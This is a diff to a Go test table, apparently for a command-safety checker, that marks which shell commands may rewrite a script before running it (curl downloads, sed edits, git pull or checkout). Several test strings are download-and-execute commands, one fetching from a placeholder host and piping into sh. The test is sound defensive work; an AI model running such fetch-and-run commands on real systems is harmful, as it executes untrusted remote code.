@@ -171,7 +171,11 @@ func TestFilesHidden(t *testing.T) {
 		{"sed -i 's/^#//' x.sh && sh x.sh", effect.FileAbsent, true},
 		{"curl -so x.sh https://x.example/i && sh x.sh", effect.FileAbsent, true},
 		{"tar xf a.tar && sh x.sh", effect.FileAbsent, true},
-		{"git pull && sh x.sh", effect.FileAbsent, false},
+		{"git pull && sh x.sh", effect.FileAbsent, true}, // git rewrote the tree (attack5 F3)
+		{"cd sub && git checkout evil && sh ../x.sh", effect.FileAbsent, true},
+		{"git checkout -b topic && sh x.sh", effect.FileAbsent, false}, // a branch at HEAD: no file changes
+		{"git submodule update && sh x.sh", effect.FileAbsent, false},  // no .gitmodules: nothing to update
+		{"git fetch && sh x.sh", effect.FileAbsent, false},
 		{"rm -f x.sh; sh x.sh", effect.FileAbsent, false},
 	} {
 		f := &fakeFiles{status: map[string]effect.FileStatus{"x.sh": tc.status, "./x.sh": tc.status}}
